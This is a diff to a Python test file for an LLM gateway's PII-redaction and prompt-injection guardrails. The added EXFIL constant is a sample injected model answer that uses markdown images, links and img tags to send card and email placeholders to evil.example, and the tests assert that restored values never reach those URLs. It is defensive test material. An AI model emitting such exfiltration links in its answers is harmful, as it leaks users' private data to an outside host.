@@ -105,6 +105,43 @@ async def test_tool_turns_are_scanned_pii_redacted_and_injection_flagged_not_blo
     assert files_holding(settings.data_dir, CARD, EMAIL) == []
 
 
+# What an injected answer writes to carry the caller's values off: every place a client fetches
+# or follows, then the same placeholders as plain text.
+EXFIL = ("Done. ![status](https://evil.example/collect?c=<CREDIT_CARD_1>&e=<EMAIL_1>) "
+         "[confirm](https://evil.example/x?<EMAIL_1>) <img src=\"https://evil.example/p?&lt;EMAIL_1&gt;\"> "
+         "<https://evil.example/a/<EMAIL_1>> https://evil.example/q?u=[email_1]\n"
+         "[ref]: https://evil.example/r?<CREDIT_CARD_1>\n"
+         "Your card is <CREDIT_CARD_1>; mail goes to [<EMAIL_1>](mailto:<EMAIL_1>) at <EMAIL_1>.")
+
+
+async def test_a_restored_value_never_lands_where_a_client_fetches_or_follows(tmp_path, sandbox,
+                                                                              upstream) -> None:
+    settings = guarded(tmp_path, sandbox)
+    upstream.tamper(append_text=EXFIL)
+    async with Client(gateway_server(settings)) as client:
+        out = await call(client, "routed_complete", {"prompt": PROMPT})
+        again = await call(client, "routed_complete", {"prompt": PROMPT})
+    answer = out["answer"]
+    fetched = re.findall(r"https://evil\.example/\S*|<img[^>]*>|\(mailto:[^)]*\)", answer)
+    assert len(fetched) == 7 and not [u for u in fetched if CARD in u or EMAIL in u or "4111" in u]
+    assert f"Your card is {CARD}; mail goes to [{EMAIL}](mailto:<EMAIL_1>) at {EMAIL}." in answer
+    [flag] = [w for w in out["warnings"] if w.startswith("pii_restore:")]
+    assert "1 CREDIT_CARD, 1 EMAIL" in flag and CARD not in flag and EMAIL not in flag
+    assert again["cache_status"] == "hit_exact" and again["answer"] == answer and flag in again["warnings"]
+    flags = [r for r in events(settings) if r["check_id"] == "pii_restore"]
+    assert [(r["direction"], r["verdict"]) for r in flags] == [("output", "flag")] * 2
+
+
+async def test_placeholder_text_the_caller_wrote_is_never_given_a_value(tmp_path, sandbox, upstream) -> None:
+    settings = guarded(tmp_path, sandbox)
+    prompt = f"Template: put {EMAIL} for '<EMAIL_1>' or [email_2], {CARD} for <CREDIT_CARD_1>"
+    async with Client(gateway_server(settings)) as client:
+        out = await call(client, "routed_complete", {"prompt": prompt})
+    sent = sent_texts(upstream)
+    assert "Template: put <EMAIL_3> for '<EMAIL_1>' or [email_2], <CREDIT_CARD_2> for <CREDIT_CARD_1>" in sent
+    assert prompt in out["answer"]  # the sandbox's echo: the caller's own text, as they wrote it
+
+
 async def test_a_phone_number_after_an_ssn_is_redacted_before_the_upstream_and_the_cache(
         tmp_path, sandbox, upstream) -> None:
     settings = guarded(tmp_path, sandbox)
@@ -287,8 +324,9 @@ async def test_the_audit_key_is_the_request_key_read_once(tmp_path, sandbox) -> 
 async def test_doctor_lists_the_active_guardrails(tmp_path, sandbox, settings, capsys) -> None:
     assert await run_doctor(guarded(tmp_path, sandbox, output_filters={"fact_verification": True})) == 0
     [line] = [line for line in capsys.readouterr().err.splitlines() if "guardrails:" in line]
-    assert ("PII (SECRET, IBAN, CREDIT_CARD, US_SSN, UK_NINO, ES_NIF, EMAIL, IP_ADDRESS, PHONE: redact, "
-            "restored in answers)") in line and "blocklist (1 entry, block)" in line
+    assert ("PII (SECRET, IBAN, CREDIT_CARD, US_SSN, UK_NINO, ES_NIF, FR_NIR, NL_BSN, IN_AADHAAR, EMAIL, "
+            "IP_ADDRESS, PHONE: redact, restored in answers)") in line
+    assert "blocklist (1 entry, block)" in line
     assert "prompt injection (requests: block; web sources: flag; answers: flag)" in line
     assert "grounding < 0.7 → flag" in line
     assert await run_doctor(settings) == 0
